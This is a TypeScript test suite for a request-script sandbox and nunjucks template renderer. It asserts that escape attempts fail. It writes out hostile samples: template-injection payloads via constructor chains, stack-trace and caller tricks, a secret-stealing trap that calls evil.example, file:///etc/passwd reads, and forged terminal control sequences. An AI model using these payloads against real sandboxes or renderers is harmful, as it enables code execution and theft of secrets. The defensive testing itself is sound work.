// Attacks on the script sandbox and on template rendering, as a pull request's collection could make them: each
// tries to reach `process`, `require`, the file system or the worker's or the host's objects, and the test fails
// when one gets through. A probe (`check`) in every script says ESCAPED when what it was handed leads to a process.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ScriptSandbox } from '../../../src/http/scripts/scriptSandbox';
import type { RequestScriptJob, ScriptOutcome } from '../../../src/http/scripts/scriptProtocol';
import { formatJunit, formatText, type RunReport } from '../../../src/cli/runReport';
import { RunSession } from '../../../src/http/run/runSession';
import { sendRequest } from '../../../src/http/sendRequest';
import { applyJsonPath, buildRenderContext, renderTemplate } from '../../../src/http/template';
import { collection, request } from './modelBuilders';
import { sandboxDir } from '../../support/sandbox';

let sandbox: ScriptSandbox;
const hostCalls: string[] = [];

before(async function () {
  this.timeout(120_000);
  await sandboxDir();
  sandbox = new ScriptSandbox({ timeoutMs: 3000 });
});

after(async () => {
  await sandbox.dispose();
});

/** Says ESCAPED (in the script's console) when `x`, or the Function its constructor chain leads to, gives a process. */
const CHECK = `const check = (x, how) => {
  try { if (x && (typeof x.exit === 'function' || typeof x.binding === 'function' || typeof x.readFileSync === 'function' || typeof x.getBuiltinModule === 'function')) { console.log('ESCAPED via ' + how); return; } } catch (e) {}
  try { const p = x && x.constructor && x.constructor.constructor && x.constructor.constructor('return typeof process === "object" ? process : undefined')(); if (p && typeof p.exit === 'function') console.log('ESCAPED via ' + how + '.constructor'); } catch (e) {}
};
`;

function job(code: string, realm?: string, data: Record<string, unknown> = { a: 1 }): RequestScriptJob {
  return {
    kind: 'request',
    realm,
    event: 'test',
    parts: [{ name: 'after-response script of request "R"', code: CHECK + code }],
    request: { id: 'req_1', name: 'R', method: 'GET', url: 'http://127.0.0.1:9/x', headers: [], parameters: [], pathParameters: [], body: {}, authentication: {} },
    response: { code: 200, status: 'OK', headers: [['content-type', 'application/json']], body: '{"a":[1,2]}', responseTime: 1, size: 11 },
    environment: { id: 'env_sub', name: 'Sub', data },
    baseEnvironment: { id: 'env_1', name: 'Base', data: { a: 1 } },
    globals: {},
    iteration: 0,
    iterationCount: 1,
    location: ['C', 'R'],
  };
}

async function run(code: string, realm?: string, data?: Record<string, unknown>): Promise<ScriptOutcome> {
  return sandbox.run(job(code, realm, data), {
    call: (c) => {
      hostCalls.push(JSON.stringify(c));
      return Promise.reject(new Error('refused by the test'));
    },
  });
}

function lines(o: ScriptOutcome): string[] {
  return o.console.map((l) => l.text);
}

/** Runs an attack; it must not escape, and must end with `done` in its console (it ran to its end). */
async function attack(name: string, code: string): Promise<ScriptOutcome> {
  const o = await run(`${code}\nconsole.log('done');`);
  const escaped = lines(o).filter((l) => l.startsWith('ESCAPED'));
  assert.deepEqual(escaped, [], `${name}: ${escaped.join('; ')}`);
  assert.equal(o.error, undefined, `${name}: ${o.error?.message}`);
  assert.equal(lines(o).at(-1), 'done', `${name}: ${lines(o).join(' | ')}`);
  return o;
}

describe('sandbox escapes: what a hostile script tries', function () {
  this.timeout(30_000);

  it('the probe itself says ESCAPED when handed a process-like object (it can fail)', async () => {
    const o = await run(`check({ exit() {} }, 'fake');`);
    assert.deepEqual(lines(o), ['ESCAPED via fake']);
  });

  it('nunjucks in replaceIn: range/cycler/joiner.constructor, computed keys and inherited names reach no Function', async () => {
    const templates = [
      `{{ range.constructor("return process")() }}`,
      `{{ cycler.constructor("return process")().pid }}`,
      `{{ joiner["const" + "ructor"]("return process")() }}`,
      `{{ "x".constructor.constructor("return process")() }}`,
      `{{ range.__proto__.constructor("return process")() }}`,
      `{{ constructor.getOwnPropertyDescriptor(range, "constructor").value("return process")() }}`,
      `{% set c = cycler("a", "constructor") %}{{ range[{ toString: c.next }] }}`,
      `{{ toString.constructor("return process")() }}`,
    ];
    for (const t of templates) {
      const o = await run(`let out; try { out = insomnia.environment.replaceIn(${JSON.stringify(t)}); } catch (e) { out = 'refused: ' + e.message; }\nconsole.log(String(out));`);
      assert.equal(o.error, undefined, `${t}: ${o.error?.message}`);
      assert.match(lines(o)[0], /^refused: |^$/, `${t}: ${lines(o)[0]}`);
      assert.doesNotMatch(lines(o)[0], /^\d+$|\[object process\]/, t);
    }
    // what templates are for still works
    const ok = await run(`console.log(insomnia.environment.replaceIn('{{ a }}-{{ _.a + 1 }}-{% for i in range(2) %}{{ i }}{% endfor %}-{{ "ab".toUpperCase() }}-{{ [3,1] | sort | join(",") }}'));`);
    assert.deepEqual(lines(ok), ['1-2-01-AB-1,3']);
  });

  it('constructor chains of everything the runtime hands in, walked (insomnia, require, console, _, timers, modules)', async () => {
    const o = await attack(
      'walk',
      `const seen = new Set(); let n = 0;
      const walk = (o, d, p) => {
        if (!o || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o) || d > 6) return;
        seen.add(o); n++; check(o, p);
        for (const k of Reflect.ownKeys(o)) { let v; try { v = o[k]; } catch (e) { continue; } walk(v, d + 1, p + '.' + String(k)); }
        try { walk(Object.getPrototypeOf(o), d + 1, p + '.__proto__'); } catch (e) {}
      };
      walk(insomnia, 0, 'insomnia'); walk(require, 0, 'require'); walk(console, 0, 'console'); walk(_, 0, '_');
      walk(setTimeout, 0, 'setTimeout'); walk(globalThis, 0, 'globalThis'); walk(insomnia.response.json(), 0, 'json');
      walk(insomnia.expect(1), 0, 'expect(1)'); walk(chai, 0, 'chai');
      for (const m of ['util', 'buffer', 'stream', 'events', 'assert', 'path', 'url', 'timers', 'querystring', 'string_decoder', 'punycode', 'lodash', 'moment', 'ajv', 'crypto-js', 'tv4', 'uuid', 'xml2js', 'csv-parse/lib/sync', 'cheerio', 'chai', 'insomnia-collection']) walk(require(m), 0, m);
      console.log(n > 1000 ? 'walked' : 'walked too little: ' + n);`,
    );
    assert.equal(lines(o).at(-2), 'walked');
  });

  it('stack traces: Error.prepareStackTrace call sites and Error.captureStackTrace give no worker function or this', async () => {
    await attack(
      'stack',
      `Error.prepareStackTrace = (e, sites) => {
        check(sites, 'the sites array');
        for (const s of sites) { check(s, 'a call site'); try { check(s.getThis(), 'getThis of ' + s.getFunctionName()); check(s.getFunction(), 'getFunction of ' + s.getFunctionName()); } catch (e) {} }
        return 'trace';
      };
      try { insomnia.environment.replaceIn('{{ missing }}'); } catch (e) { e.stack; }
      try { JSON.parse('{'); } catch (e) { e.stack; }
      await new Promise((r) => setTimeout(() => { const o = {}; Error.captureStackTrace(o); o.stack; r(); }, 1));
      await insomnia.sendRequest('http://127.0.0.1:9/').then(() => { new Error('x').stack; });
      insomnia.test('t', () => { new Error('in a test').stack; });
      delete Error.prepareStackTrace;`,
    );
  });

  it('callers: arguments.callee.caller and f.caller from every place the runtime calls a script function', async () => {
    await attack(
      'caller',
      `function f() { let c = f.caller; for (let i = 0; c && i < 20; i++) { check(c, 'caller ' + i); try { c = c.caller; } catch (e) { c = null; } } }
      function g() { let c = arguments.callee.caller; for (let i = 0; c && i < 20; i++) { check(c, 'callee.caller ' + i); try { c = c.caller; } catch (e) { c = null; } } }
      for (const h of [f, g]) {
        setTimeout(h, 0); setImmediate(h); Promise.resolve().then(h); insomnia.test('t', h);
        insomnia.sendRequest('http://127.0.0.1:9/', h);
        const o = { get x() { h(); return 1; }, toJSON() { h(); return 1; }, toString() { h(); return 'x'; } };
        try { insomnia.environment.set('k', o); } catch (e) {}
        try { console.log(o); } catch (e) {}
        try { insomnia.expect(o).to.equal(o); } catch (e) {}
      }
      await new Promise((r) => setTimeout(r, 20));
      insomnia.environment.unset('k');`,
    );
  });

  it('Proxies and getters handed to runtime functions are called with nothing of the worker', async () => {
    await attack(
      'proxies',
      `const P = (name) => new Proxy(function () {}, {
        get(t, k) { return Reflect.get(t, k); },
        apply(t, self, args) { check(self, name + ' this'); args.forEach((a, i) => check(a, name + ' arg ' + i)); return undefined; },
        construct(t, args) { args.forEach((a, i) => check(a, name + ' new arg ' + i)); return {}; },
        has() { return false; },
        getPrototypeOf(t) { return Reflect.getPrototypeOf(t); },
      });
      const tr = (f) => { try { return f(); } catch (e) { check(e, 'an error'); } };
      tr(() => insomnia.environment.set('k', P('set'))); tr(() => insomnia.expect(P('expect')).to.be.a('function'));
      tr(() => insomnia.test(P('name'), P('fn'))); tr(() => insomnia.request.addHeader(P('header')));
      tr(() => setTimeout(P('timer'), 0)); tr(() => insomnia.sendRequest({ url: P('url') }, P('callback')));
      tr(() => console.log(P('log'))); tr(() => insomnia.variables.replaceIn(P('template'))); tr(() => require(P('require')));
      tr(() => insomnia.environment.set(P('key'), 1));
      await new Promise((r) => setTimeout(r, 20));
      insomnia.environment.unset('k');`,
    );
  });

  it('promises: thenables, Symbol.species of the promises the runtime makes, unhandled rejections and thrown getters', async () => {
    await attack(
      'promises',
      `const t = { then(res, rej) { check(res, 'resolve'); check(rej, 'reject'); res(1); } };
      await t; insomnia.test('async', () => t);
      const p = insomnia.sendRequest('http://127.0.0.1:9/');
      check(p, 'sendRequest promise');
      class Spy extends Promise { static get [Symbol.species]() { check(this, 'species'); return Promise; } }
      Object.defineProperty(Promise, Symbol.species, { configurable: true, get() { check(this, 'Promise species'); return Promise; } });
      p.then(function () { check(this, 'then this'); });
      await p;
      Promise.reject({ get message() { const h = function h() { return h.caller; }; check(h(), 'rejection message getter'); return 'm'; } });
      setTimeout(() => { throw { get message() { check(arguments, 'thrown getter'); return 'thrown'; } }; }, 0);
      // the worker's own handler of unhandled rejections asks the reason: its traps are called by strict code only
      const probe = function probe() { try { let c = probe.caller; for (let i = 0; c && i < 10; i++) { check(c, 'rejection trap caller ' + i); c = c.caller; } } catch (e) {} };
      Promise.reject(new Proxy({}, { has(t, k) { probe(); return true; }, get(t, k) { probe(); return k === 'message' ? 'trapped' : undefined; } }));
      await new Promise((r) => setTimeout(r, 20));
      delete Promise[Symbol.species];`,
    );
  });

  it('dynamic import, WebAssembly and the global object offer nothing', async () => {
    const o = await attack(
      'globals',
      `try { await import('fs'); console.log('ESCAPED via import'); } catch (e) { console.log('import refused'); }
      try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); console.log('wasm compiled'); } catch (e) { console.log('wasm refused'); }
      for (const name of ['process', 'require', 'module', 'Buffer', 'global', '__dirname', 'fetch', 'Worker', 'SharedArrayBuffer']) if (typeof globalThis[name] !== 'undefined' && name !== 'SharedArrayBuffer') console.log('global ' + name);
      for (const f of [(async () => {}).constructor, (function* () {}).constructor, (async function* () {}).constructor, Function]) check(f('return typeof process === "object" ? process : 1')(), 'a function constructor');`,
    );
    assert.deepEqual(lines(o).slice(0, 2), ['import refused', 'wasm refused']);
  });

  it('Atomics.wait on a SharedArrayBuffer blocks no longer than the time limit', async () => {
    const started = Date.now();
    const o = await run(`const a = new Int32Array(new SharedArrayBuffer(16)); Atomics.wait(a, 0, 0, 120000); console.log('woke');`);
    assert.equal(o.error?.kind, 'timeout');
    assert.ok(Date.now() - started < 8000, `stopped after ${Date.now() - started} ms`);
  });

  it('ArrayBuffers and typed arrays (outside the heap limit, in the host\'s process) stop at the budget, however made', async function () {
    this.timeout(120_000);
    const ways: Record<string, string> = {
      'new Uint8Array(n)': `keep.push(new Uint8Array(64 * MB));`,
      'new ArrayBuffer(string)': `keep.push(new ArrayBuffer(String(64 * MB)));`,
      'new Float64Array(array-like)': `keep.push(new Float64Array({ length: 8 * MB }));`,
      'Float64Array.from': `keep.push(Float64Array.from({ length: 8 * MB }));`,
      'a growable buffer': `const b = new ArrayBuffer(1, { maxByteLength: 64 * MB }); b.resize(64 * MB); keep.push(b);`,
      'slice with no species': `const a = first ||= new Uint8Array(32 * MB); Object.defineProperty(a, 'constructor', { value: undefined }); keep.push(a.slice());`,
      'buffer slice with no species': `const a = first ||= new ArrayBuffer(32 * MB); Object.defineProperty(a, 'constructor', { value: undefined }); keep.push(a.slice(0));`,
      'toReversed': `const a = first ||= new Uint8Array(32 * MB); keep.push(a.toReversed ? a.toReversed() : a.slice());`,
      'a subclass': `class Big extends Uint8Array {} keep.push(new Big(64 * MB));`,
      'the prototype\'s constructor': `keep.push(new (Object.getPrototypeOf(new Uint8Array(1)).constructor)(64 * MB));`,
      'SharedArrayBuffer': `keep.push(new SharedArrayBuffer(64 * MB));`,
    };
    // a time limit of its own: what is tested is the budget, not how fast a busy machine makes 256 MB
    const roomy = new ScriptSandbox({ timeoutMs: 30_000 });
    try {
      for (const [way, step] of Object.entries(ways)) {
        const o = await roomy.run(job(`const MB = 1024 * 1024; const keep = []; let first;
          let made = 0; try { for (let i = 0; i < 40; i++) { ${step} made++; } console.log('made all 40'); } catch (e) { console.log(e instanceof RangeError && /at most 256 MB/.test(e.message) ? 'refused after ' + made : 'other: ' + e.message); }`), { call: () => Promise.reject(new Error('none')) });
        assert.equal(o.error, undefined, `${way}: ${o.error?.message}`);
        assert.match(lines(o)[0] ?? '', /^refused after \d+$/, `${way}: ${lines(o).join(' | ')}`);
      }
    } finally {
      await roomy.dispose();
    }
    const wasm = await run(`console.log(typeof WebAssembly);`);
    assert.deepEqual(lines(wasm), ['undefined']);
    // what scripts do with bytes still works, and the budget is a job's: the next job starts from nothing
    const ok = await run(`const { Buffer } = require('buffer'); const b = Buffer.from('héllo'); console.log(b.toString('base64'), new Uint8Array(200 * 1024 * 1024).length, require('crypto-js').SHA256('x').toString().length, require('uuid').v4().length);`);
    assert.deepEqual(lines(ok), ['aMOpbGxv 209715200 64 36']);
  });

  it('environment.set with __proto__ and constructor keys: plain data on the host, nothing polluted', async () => {
    const o = await run(`insomnia.environment.set('__proto__', { polluted: 'yes' }); insomnia.environment.set('constructor', { prototype: { polluted: 'yes' } }); insomnia.globals.set('__proto__', { polluted: 'yes' });`);
    assert.equal(o.error, undefined, o.error?.message);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    assert.equal(Object.getPrototypeOf(o.environment), Object.prototype);
    // what rendering with that data does: no pollution either, and the key is no variable
    const c = collection([request('req_1')], o.environment);
    const ctx = buildRenderContext(c, 'req_1');
    assert.equal(Object.getPrototypeOf(ctx._), Object.prototype, 'the merged variables keep their prototype');
    assert.equal(await renderTemplate('{{ a }}', ctx), '1');
    assert.match(await renderTemplate('{{ polluted }}', ctx).catch((e: Error) => e.message), /Unknown variable "polluted"/);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});

describe('sandbox escapes: one session\'s scripts and another\'s', function () {
  this.timeout(30_000);

  it('a script that replaces JSON, Promise and Array methods sees nothing of another session\'s jobs, and changes nothing of them', async () => {
    const trap = `globalThis.stolen = [];
      const keep = (v) => { try { if (v && typeof v === 'object' && JSON.stringify.original(v).includes('TOPSECRET')) { globalThis.stolen.push('seen'); insomnia.sendRequest('http://evil.example/?s=TOPSECRET'); } } catch (e) {} };
      const parse = JSON.parse; const stringify = JSON.stringify;
      JSON.parse = function (t, r) { const v = parse.call(this, t, r); keep(v); return v; };
      JSON.stringify = function (v, r, s) { keep(v); if (v && v.environment && typeof v.environment === 'object') v.environment.injected = 'by another session'; return stringify.call(this, v, r, s); };
      JSON.stringify.original = stringify;
      const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { keep(this); return then.call(this, a, b); };
      const push = Array.prototype.push; Array.prototype.push = function (...xs) { xs.forEach(keep); return push.apply(this, xs); };`;
    hostCalls.length = 0;
    const a = await run(trap, 'session-a');
    assert.equal(a.error, undefined, a.error?.message);
    const b = await run(`insomnia.test('sees its secret', () => insomnia.expect(insomnia.environment.get('secret')).to.equal('TOPSECRET'));`, 'session-b', { a: 1, secret: 'TOPSECRET' });
    assert.equal(b.error, undefined, b.error?.message);
    assert.deepEqual(b.tests.map((t) => t.status), ['passed']);
    assert.deepEqual(b.environment, { a: 1, secret: 'TOPSECRET' }, 'the outcome is what the script left, nothing injected');
    assert.deepEqual(hostCalls.filter((c) => c.includes('TOPSECRET')), [], 'no host call with the secret');
    const later = await run(`console.log(String(globalThis.stolen && globalThis.stolen.length));`, 'session-a');
    assert.deepEqual(lines(later), ['0'], 'the trap\'s session saw nothing');
    // within one session the scripts share their globals, as Insomnia's do (one collection, one environment)
    const same = await run(`console.log(typeof JSON.stringify.original);`, 'session-a');
    assert.deepEqual(lines(same), ['function']);
  });
});

describe('template escapes on the host (a collection\'s templates are rendered by the extension host and the CLI)', () => {
  it('range.constructor and its variants are refused with a clear message; nothing runs', async () => {
    const marker = `hammockEscape${Date.now()}`;
    const payload = `return (globalThis.${marker} = process.pid)`;
    const templates = [
      `{{ range.constructor("${payload}")() }}`,
      `{{ cycler.constructor("${payload}")() }}`,
      `{{ joiner.constructor("${payload}")() }}`,
      `{{ base_url.constructor.constructor("${payload}")() }}`,
      `{{ _["constructor"]["constructor"]("${payload}")() }}`,
      `{{ range.__proto__.constructor("${payload}")() }}`,
      `{{ constructor.getOwnPropertyDescriptor(range, "constructor").value("${payload}")() }}`,
      `{% set c = cycler("a", "constructor") %}{{ range[{ toString: c.next }]("${payload}")() }}`,
      `{% macro m() %}x{% endmacro %}{{ m.constructor("${payload}")() }}`,
      `{{ (constructor.values(constructor.getOwnPropertyDescriptors(range)) | first)("${payload}")() }}`,
    ];
    for (const t of templates) {
      const out = await renderTemplate(t, { base_url: 'http://x', _: { base_url: 'http://x' } }).then((s) => `rendered: ${s}`, (e: Error) => `refused: ${e.message}`);
      assert.match(out, /^refused: /, `${t} -> ${out}`);
      assert.equal((globalThis as Record<string, unknown>)[marker], undefined, t);
    }
    const refused = await renderTemplate(`{{ range.constructor("${payload}")() }}`, {}).catch((e: Error) => e.message);
    assert.match(String(refused), /templates may not use "constructor"/);
  });

  it('include, import and extends read no file (nunjucks\'s default loader reads ./views of the working directory)', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hammock-views-'));
    fs.mkdirSync(path.join(dir, 'views'));
    fs.writeFileSync(path.join(dir, 'views', 'secret.txt'), 'SECRET-IN-VIEWS');
    const cwd = process.cwd();
    process.chdir(dir);
    try {
      for (const t of ['{% include "secret.txt" %}', '{% include "../views/secret.txt" %}', '{% extends "secret.txt" %}', '{% import "secret.txt" as x %}{{ x }}']) {
        const out = await renderTemplate(t, {}).then((s) => `rendered: ${s}`, (e: Error) => `refused: ${e.message}`);
        assert.doesNotMatch(out, /SECRET/, t);
        const o = await run(`let out; try { out = insomnia.environment.replaceIn(${JSON.stringify(t)}); } catch (e) { out = 'refused: ' + e.message; } console.log(String(out));`);
        assert.doesNotMatch(lines(o).join('\n'), /SECRET/, `replaceIn ${t}`);
      }
    } finally {
      process.chdir(cwd);
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the response tag\'s JSONPath filters evaluate no code (jsonpath-plus\'s safe evaluator)', () => {
    const marker = `hammockJsonPath${Date.now()}`;
    const body = JSON.stringify({ a: [{ x: 1 }, { x: 2 }] });
    for (const filter of [
      `$..[?(@.constructor.constructor("globalThis.${marker} = 1")())]`,
      `$.a[?(@.x.constructor.constructor("globalThis.${marker} = 1")())]`,
      `$.a[?(@property.constructor.constructor("globalThis.${marker} = 1")())]`,
      `$..[?(p="globalThis.${marker} = 1";a="".sub.call.call({}["constructor"].getOwnPropertyDescriptor("".sub.__proto__,"constructor").value,null,p)())]`,
    ]) {
      assert.throws(() => applyJsonPath(body, filter), Error, filter);
      assert.equal((globalThis as Record<string, unknown>)[marker], undefined, filter);
    }
    assert.equal(applyJsonPath(body, '$.a[?(@.x == 2)].x'), '2');
  });

  it('templates still read data, loop, filter, call string methods and macros', async () => {
    const ctx = { a: { b: 'x' }, list: [3, 1, 2], _: { a: { b: 'x' } } };
    assert.equal(await renderTemplate('{{ a.b }}|{{ _.a.b | upper }}|{% for i in range(3) %}{{ i }}{% endfor %}|{{ list | sort | join("-") }}|{{ "a,b".split(",").length }}|{% macro m(v) %}<{{ v }}>{% endmacro %}{{ m(a.b) }}|{{ list.indexOf(1) }}', ctx), 'x|X|012|1-2-3|2|<x>|1');
  });
});

describe('output the host prints: a script\'s test names and console lines, a collection\'s names', function () {
  this.timeout(30_000);

  it('control characters, forged lines and huge texts reach the terminal report as visible escapes', async () => {
    const evil = 'a\u001b[2J\u001b]0;title\u0007\r\n::error file=x::forged\n  \u2713 GET forged  200 OK\u202e';
    const o = await run(`insomnia.test(${JSON.stringify(evil)}, () => { throw new Error(${JSON.stringify(evil)}); }); console.log(${JSON.stringify(evil)}); console.log('x'.repeat(200000));`);
    assert.equal(o.error, undefined, o.error?.message);
    assert.ok(o.console.every((l) => l.text.length < 100_100), 'a console line is cut where the host receives it');
    const report: RunReport = {
      kind: 'run',
      startedAt: new Date(0).toISOString(),
      durationMs: 1,
      requests: [{ collection: `C${evil}`, folders: [evil], id: 'req_1', name: evil, method: 'GET', status: 200, statusText: evil, durationMs: 1, tests: o.tests, console: o.console }],
      suites: [{ collection: 'C', name: evil, tests: o.tests, error: evil }],
      notRun: [{ name: evil, why: evil }],
    };
    const text = formatText(report);
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, 'no control character but line breaks');
    for (const line of text.split('\n')) {
      assert.doesNotMatch(line, /^\s*::/, `a workflow command line: ${line}`);
      assert.doesNotMatch(line, /^\s*\u2713 GET forged/, `a forged result line: ${line}`);
      assert.ok(line.length < 12_000, `a line of ${line.length} characters`);
    }
    assert.match(text, /\\x1b\[2J/, 'the escape is shown, not sent');
    const xml = formatJunit(report);
    assert.doesNotMatch(xml, /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/, 'XML 1.0 has no place for them');
  });
});

describe('insomnia.sendRequest to what is not an HTTP server', function () {
  this.timeout(30_000);

  it('file:, data: and other schemes read nothing: the script gets an error, no file content', async () => {
    const code = `for (const url of ['file:///etc/passwd', 'file://localhost/etc/passwd', 'data:text/plain,hi', 'ftp://127.0.0.1/x', 'unix:/var/run/docker.sock']) {
      await new Promise((done) => insomnia.sendRequest(url, (err, res) => { console.log(url + ' -> ' + (err ? 'error' : 'response ' + res.code + ' ' + res.text().slice(0, 40))); done(); }));
    }`;
    const req = request('req_1', { name: 'R', url: 'http://127.0.0.1:9/', scripts: { preRequest: code, afterResponse: '' } });
    const s = new RunSession(collection([req]), undefined, { sandbox, send: (r) => sendRequest(r, { followRedirects: true, rejectUnauthorized: true }) });
    const r = await s.runRequest(req);
    const out = r.console.map((l) => l.text);
    assert.equal(out.length, 5, out.join(' | '));
    for (const line of out) {
      assert.doesNotMatch(line, /root:|response/, line);
      assert.match(line, / -> error$/, line);
    }
  });
});
